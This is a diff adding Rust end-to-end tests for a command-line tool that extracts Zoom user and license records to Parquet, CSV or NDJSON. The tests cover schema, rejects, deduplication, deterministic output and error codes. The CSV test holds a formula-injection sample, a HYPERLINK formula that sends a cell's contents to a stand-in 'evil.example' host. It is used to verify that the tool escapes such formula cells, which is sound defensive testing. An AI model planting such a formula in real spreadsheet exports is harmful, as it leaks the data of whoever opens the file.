@@ -1,0 +1,508 @@
+//! End-to-end tests of `zoom-licenses extract --replay`, run as a user would run the binary.
+
+mod common;
+
+use std::collections::BTreeSet;
+use std::fs;
+use std::io::Read;
+use std::process::Stdio;
+
+use arrow_schema::{DataType, TimeUnit};
+use common::*;
+use predicates::str::contains;
+use serde_json::Value;
+
+fn manifest(path: &std::path::Path) -> Value {
+    serde_json::from_str(&fs::read_to_string(path).unwrap()).unwrap()
+}
+
+fn ndjson_lines(text: &str) -> Vec<Value> {
+    text.lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON: {l:?}: {e}")))
+        .collect()
+}
+
+#[test]
+fn sample_to_parquet_holds_exactly_the_active_and_pending_users_with_supported_plans() {
+    let out = tempfile::tempdir().unwrap();
+    let target = out.path().join("zoom_users.parquet");
+    zoom_licenses()
+        .args(["extract", "--replay"])
+        .arg(fixture("sample"))
+        .arg("--output")
+        .arg(&target)
+        .assert()
+        .success()
+        .stderr(contains("users written: 842"));
+
+    let (batches, _) = read_parquet(&target);
+    let keys: Vec<String> = text_column(&batches, "user_key")
+        .into_iter()
+        .map(Option::unwrap)
+        .collect();
+    let unique: BTreeSet<String> = keys.iter().cloned().collect();
+    assert_eq!(keys.len(), unique.len(), "a user key appears twice");
+    assert_eq!(unique, expected_keys(&fixture("sample")));
+    assert_eq!(keys.len(), 842);
+
+    let m = manifest(&out.path().join("zoom_users_manifest.json"));
+    assert_eq!(m["rows_written"], 842);
+    assert_eq!(m["users_seen"], 1000);
+    assert_eq!(m["rejects"]["deactivated"], 150);
+    assert_eq!(m["outputs"]["licenses"]["rows"], 842);
+    assert_eq!(
+        m["outputs"]["licenses"]["bytes"],
+        fs::metadata(&target).unwrap().len()
+    );
+    assert_eq!(
+        m["outputs"]["rejects"]["path"],
+        out.path()
+            .join("zoom_users_rejects.parquet")
+            .display()
+            .to_string()
+    );
+    assert_eq!(m["statuses"]["active"]["total_records"], 700);
+}
+
+#[test]
+fn parquet_has_license_schema_v1_with_utc_timestamps_and_run_metadata() {
+    let out = tempfile::tempdir().unwrap();
+    let target = out.path().join("users.parquet");
+    zoom_licenses()
+        .args(["extract", "--run-id", "run-42", "--replay"])
+        .arg(fixture("plan-types"))
+        .arg("--output")
+        .arg(&target)
+        .assert()
+        .success();
+    let (batches, kv) = read_parquet(&target);
+    let schema = batches[0].schema();
+    let utc = DataType::Timestamp(TimeUnit::Microsecond, Some("UTC".into()));
+    let expected: Vec<(&str, DataType, bool)> = vec![
+        ("source", DataType::Utf8, false),
+        ("account_id", DataType::Utf8, true),
+        ("user_key", DataType::Utf8, false),
+        ("user_id", DataType::Utf8, true),
+        ("email", DataType::Utf8, false),
+        ("display_name", DataType::Utf8, true),
+        ("first_name", DataType::Utf8, true),
+        ("last_name", DataType::Utf8, true),
+        ("status", DataType::Utf8, false),
+        ("plan", DataType::Utf8, false),
+        ("plan_type_code", DataType::Int32, false),
+        ("plan_united_type", DataType::Utf8, true),
+        ("licenses", DataType::Utf8, true),
+        ("department", DataType::Utf8, true),
+        ("role_id", DataType::Utf8, true),
+        ("timezone", DataType::Utf8, true),
+        ("user_created_at", utc.clone(), true),
+        ("last_login_at", utc.clone(), true),
+        ("last_client_version", DataType::Utf8, true),
+        ("extracted_at", utc, false),
+        ("run_id", DataType::Utf8, false),
+    ];
+    let actual: Vec<(&str, DataType, bool)> = schema
+        .fields()
+        .iter()
+        .map(|f| (f.name().as_str(), f.data_type().clone(), f.is_nullable()))
+        .collect();
+    assert_eq!(actual, expected);
+    let kv: std::collections::BTreeMap<_, _> = kv.into_iter().collect();
+    assert_eq!(kv["run_id"], "run-42");
+    assert_eq!(kv["schema_version"], "1");
+    assert_eq!(kv["tool_version"], env!("CARGO_PKG_VERSION"));
+
+    let (rejects, _) = read_parquet(&out.path().join("users_rejects.parquet"));
+    let names: Vec<String> = rejects[0]
+        .schema()
+        .fields()
+        .iter()
+        .map(|f| f.name().clone())
+        .collect();
+    assert_eq!(
+        names,
+        [
+            "run_id",
+            "user_key",
+            "user_id",
+            "email",
+            "status",
+            "plan_type_code",
+            "reason",
+            "detail",
+            "raw"
+        ]
+    );
+}
+
+#[test]
+fn every_plan_code_lands_where_a_person_would_expect() {
+    let out = tempfile::tempdir().unwrap();
+    zoom_licenses()
+        .args(["extract", "--format", "ndjson", "--replay"])
+        .arg(fixture("plan-types"))
+        .arg("--output")
+        .arg(out.path().join("u.ndjson"))
+        .assert()
+        .success();
+    let rows = ndjson_lines(&fs::read_to_string(out.path().join("u.ndjson")).unwrap());
+    let got: Vec<(&str, &str, i64)> = rows
+        .iter()
+        .map(|r| {
+            (
+                r["email"].as_str().unwrap(),
+                r["plan"].as_str().unwrap(),
+                r["plan_type_code"].as_i64().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        got,
+        [
+            ("user1@example.com", "basic", 1),
+            ("user2@example.com", "licensed", 2),
+            ("user3@example.com", "unassigned", 4),
+            ("user4@example.com", "none", 99),
+        ]
+    );
+    let rejects = ndjson_lines(&fs::read_to_string(out.path().join("u_rejects.ndjson")).unwrap());
+    let got: Vec<(&str, &str, i64)> = rejects
+        .iter()
+        .map(|r| {
+            (
+                r["email"].as_str().unwrap(),
+                r["reason"].as_str().unwrap(),
+                r["plan_type_code"].as_i64().unwrap(),
+            )
+        })
+        .collect();
+    assert_eq!(
+        got,
+        [
+            ("user5@example.com", "unsupported_plan", 3),
+            ("user6@example.com", "unsupported_plan", 7),
+        ]
+    );
+    assert!(rejects[1]["detail"].as_str().unwrap().contains("type 7"));
+}
+
+fn csv_cells(path: &std::path::Path, column: &str) -> Vec<String> {
+    let mut reader = csv::Reader::from_path(path).unwrap();
+    let idx = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == column)
+        .unwrap();
+    reader
+        .records()
+        .map(|r| r.unwrap()[idx].to_string())
+        .collect()
+}
+
+#[test]
+fn csv_neutralizes_formula_cells_unless_raw() {
+    let out = tempfile::tempdir().unwrap();
+    let safe = out.path().join("safe.csv");
+    let raw = out.path().join("raw.csv");
+    for (path, extra) in [(&safe, None), (&raw, Some("--csv-raw"))] {
+        let mut cmd = zoom_licenses();
+        cmd.args(["extract", "--format", "csv", "--replay"])
+            .arg(fixture("awkward-text"))
+            .arg("--output")
+            .arg(path);
+        if let Some(flag) = extra {
+            cmd.arg(flag);
+        }
+        cmd.assert().success();
+    }
+    let names = csv_cells(&safe, "display_name");
+    assert_eq!(
+        &names[4..],
+        [
+            "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
+            "'+1 555 0100",
+            "'-2",
+            "'@x",
+            "'\tTabbed",
+        ]
+    );
+    // Quotes, commas, newlines and Unicode round-trip through RFC 4180 quoting.
+    assert_eq!(
+        &names[..4],
+        [
+            "José Müller-Łukasiewicz",
+            "山田 太郎 🎉",
+            "Dwayne \"The Rock\" Johnson, Jr.",
+            "Line one\nLine two",
+        ]
+    );
+    assert_eq!(csv_cells(&safe, "department")[8], "'\rCarriage");
+    let raw_names = csv_cells(&raw, "display_name");
+    assert_eq!(
+        raw_names[4],
+        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")"
+    );
+    assert_eq!(raw_names[6], "-2");
+    let text = fs::read_to_string(&safe).unwrap();
+    assert!(text.starts_with("source,account_id,user_key,"));
+    assert!(text.contains("\r\n"), "RFC 4180 records end in CRLF");
+    let created = csv_cells(&safe, "user_created_at");
+    assert_eq!(created[0], "2023-01-05T09:00:00Z");
+}
+
+#[test]
+fn ndjson_on_stdout_carries_only_data_even_with_debug_logs() {
+    let assert = zoom_licenses()
+        .current_dir(tempfile::tempdir().unwrap().path())
+        .args([
+            "-vv", "extract", "--format", "ndjson", "--output", "-", "--replay",
+        ])
+        .arg(fixture("sample"))
+        .assert()
+        .success();
+    let output = assert.get_output();
+    let stdout = String::from_utf8(output.stdout.clone()).unwrap();
+    let rows = ndjson_lines(&stdout);
+    assert_eq!(rows.len(), 842);
+    for row in &rows {
+        let object = row.as_object().unwrap();
+        assert_eq!(object.len(), 21);
+        assert!(row["extracted_at"].as_str().unwrap().ends_with('Z'));
+    }
+    assert!(stdout.starts_with("{\"source\":\"zoom\",\"account_id\":"));
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("Extract started"), "{stderr}");
+    assert!(
+        stderr.contains("Replayed page"),
+        "debug logs go to stderr: {stderr}"
+    );
+}
+
+#[test]
+fn a_run_that_fails_mid_write_leaves_no_output_and_keeps_the_previous_one() {
+    let work = tempfile::tempdir().unwrap();
+    let recording = work.path().join("recording");
+    copy_dir(&fixture("sample"), &recording);
+    // Cut the last page in half, as a dropped connection would.
+    let last = recording.join("pages/00011-inactive.json");
+    let body = fs::read(&last).unwrap();
+    fs::write(&last, &body[..body.len() / 2]).unwrap();
+
+    let out = work.path().join("out");
+    fs::create_dir_all(&out).unwrap();
+    fs::write(out.join("zoom_users.parquet"), "previous run").unwrap();
+    zoom_licenses()
+        .args(["extract", "--replay"])
+        .arg(&recording)
+        .arg("--output")
+        .arg(out.join("zoom_users.parquet"))
+        .assert()
+        .code(1)
+        .stderr(contains("00011-inactive.json"))
+        .stderr(contains("invalid JSON"));
+    assert_eq!(dir_entries(&out), ["zoom_users.parquet"]);
+    assert_eq!(
+        fs::read_to_string(out.join("zoom_users.parquet")).unwrap(),
+        "previous run"
+    );
+}
+
+fn copy_dir(from: &std::path::Path, to: &std::path::Path) {
+    fs::create_dir_all(to.join("pages")).unwrap();
+    fs::copy(from.join("index.json"), to.join("index.json")).unwrap();
+    for entry in fs::read_dir(from.join("pages")).unwrap() {
+        let entry = entry.unwrap();
+        fs::copy(entry.path(), to.join("pages").join(entry.file_name())).unwrap();
+    }
+}
+
+#[test]
+fn malformed_records_land_in_rejects_with_reasons_and_never_fail_the_run() {
+    let out = tempfile::tempdir().unwrap();
+    zoom_licenses()
+        .args(["extract", "--format", "ndjson", "--replay"])
+        .arg(fixture("malformed"))
+        .arg("--output")
+        .arg(out.path().join("u.ndjson"))
+        .assert()
+        .success();
+    let rows = ndjson_lines(&fs::read_to_string(out.path().join("u.ndjson")).unwrap());
+    assert_eq!(rows.len(), 1);
+    let rejects = ndjson_lines(&fs::read_to_string(out.path().join("u_rejects.ndjson")).unwrap());
+    let details: Vec<&str> = rejects
+        .iter()
+        .map(|r| {
+            assert_eq!(r["reason"], "invalid_record");
+            r["detail"].as_str().unwrap()
+        })
+        .collect();
+    assert!(details[0].starts_with("field `type`"), "{}", details[0]);
+    assert!(details[1].contains("last_login_time"), "{}", details[1]);
+    assert_eq!(details[2], "missing `email`");
+    assert!(details[3].contains("user_created_at"), "{}", details[3]);
+    assert_eq!(rejects[4]["raw"], "\"just a string\"");
+    assert_eq!(rejects[5]["raw"], "null");
+    // The raw JSON is kept exactly as received.
+    assert!(
+        rejects[0]["raw"]
+            .as_str()
+            .unwrap()
+            .contains("\"type\": \"2\"")
+    );
+    let m = manifest(&out.path().join("u_manifest.json"));
+    assert_eq!(m["rejects"]["invalid_record"], 6);
+}
+
+#[test]
+fn license_options_above_2_pow_53_survive_exactly() {
+    let out = tempfile::tempdir().unwrap();
+    let target = out.path().join("u.parquet");
+    zoom_licenses()
+        .args(["extract", "--replay"])
+        .arg(fixture("license-info-list"))
+        .arg("--output")
+        .arg(&target)
+        .assert()
+        .success();
+    let (batches, _) = read_parquet(&target);
+    let licenses = text_column(&batches, "licenses");
+    assert!(
+        licenses[0]
+            .as_deref()
+            .unwrap()
+            .contains("\"license_option\":9007199254740993")
+    );
+    let second = licenses[1].as_deref().unwrap();
+    assert!(second.contains("18446744073709551615"), "{second}");
+    assert!(second.contains("36028797018963968"), "{second}");
+    assert_eq!(licenses[2].as_deref(), Some("[]"));
+}
+
+#[test]
+fn same_run_id_and_as_of_give_byte_identical_outputs() {
+    let out = tempfile::tempdir().unwrap();
+    for format in ["parquet", "csv", "ndjson"] {
+        let mut hashes = Vec::new();
+        for attempt in ["a", "b"] {
+            let target = out.path().join(attempt).join(format!("u.{format}"));
+            zoom_licenses()
+                .args([
+                    "extract",
+                    "--run-id",
+                    "fixed",
+                    "--as-of",
+                    "2026-11-28T00:00:00Z",
+                ])
+                .args(["--format", format, "--replay"])
+                .arg(fixture("sample"))
+                .arg("--output")
+                .arg(&target)
+                .assert()
+                .success();
+            let m = manifest(&out.path().join(attempt).join("u_manifest.json"));
+            assert_eq!(m["extracted_at"], "2026-11-28T00:00:00.000000Z");
+            hashes.push((
+                fs::read(&target).unwrap(),
+                m["outputs"]["licenses"]["sha256"].clone(),
+                m["outputs"]["rejects"]["sha256"].clone(),
+            ));
+        }
+        assert!(
+            hashes[0] == hashes[1],
+            "{format} output differs between runs"
+        );
+    }
+}
+
+#[test]
+fn duplicates_are_dropped_and_counted() {
+    let out = tempfile::tempdir().unwrap();
+    zoom_licenses()
+        .args(["extract", "--format", "csv", "--replay"])
+        .arg(fixture("duplicates"))
+        .arg("--output")
+        .arg(out.path().join("u.csv"))
+        .assert()
+        .success()
+        .stderr(contains("duplicates dropped: 2"));
+    let m = manifest(&out.path().join("u_manifest.json"));
+    assert_eq!(m["duplicates"], 2);
+    assert_eq!(m["rows_written"], 4);
+    assert_eq!(csv_cells(&out.path().join("u.csv"), "user_key").len(), 4);
+}
+
+#[test]
+fn bad_input_gets_a_clear_error_and_the_right_exit_code() {
+    let work = tempfile::tempdir().unwrap();
+    zoom_licenses()
+        .current_dir(work.path())
+        .args(["extract", "--replay", "no-such-dir"])
+        .assert()
+        .code(2)
+        .stderr(contains("no-such-dir/index.json"));
+    zoom_licenses()
+        .current_dir(work.path())
+        .args(["extract"])
+        .assert()
+        .code(2)
+        .stderr(contains("--replay DIR"));
+    zoom_licenses()
+        .current_dir(work.path())
+        .args(["extract", "--as-of", "yesterday", "--replay"])
+        .arg(fixture("sample"))
+        .assert()
+        .code(2)
+        .stderr(contains("--as-of"));
+    zoom_licenses()
+        .current_dir(work.path())
+        .args(["extract", "--format", "xml", "--replay"])
+        .arg(fixture("sample"))
+        .assert()
+        .code(2);
+
+    // A recording that stops before a sweep's last page is refused, not silently short.
+    let recording = work.path().join("cut");
+    copy_dir(&fixture("pagination"), &recording);
+    let mut index: Value =
+        serde_json::from_str(&fs::read_to_string(recording.join("index.json")).unwrap()).unwrap();
+    index["pages"].as_array_mut().unwrap().remove(2);
+    fs::write(recording.join("index.json"), index.to_string()).unwrap();
+    zoom_licenses()
+        .current_dir(work.path())
+        .args(["extract", "--replay"])
+        .arg(&recording)
+        .assert()
+        .code(1)
+        .stderr(contains("incomplete"))
+        .stderr(contains("`active`"));
+    assert!(dir_entries(&work.path().join("out")).is_empty());
+}
+
+#[test]
+fn a_closed_stdout_ends_the_run_quietly() {
+    let work = tempfile::tempdir().unwrap();
+    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_zoom-licenses"))
+        .current_dir(work.path())
+        .args([
+            "-q", "extract", "--format", "ndjson", "--output", "-", "--replay",
+        ])
+        .arg(fixture("sample"))
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut first = [0u8; 64];
+    child.stdout.take().unwrap().read_exact(&mut first).unwrap();
+    // The pipe is closed here, as `| head -c 64` would.
+    let status = child.wait().unwrap();
+    let mut stderr = String::new();
+    child
+        .stderr
+        .take()
+        .unwrap()
+        .read_to_string(&mut stderr)
+        .unwrap();
+    assert_eq!(status.code(), Some(0), "{stderr}");
+    assert!(stderr.is_empty(), "{stderr}");
+}
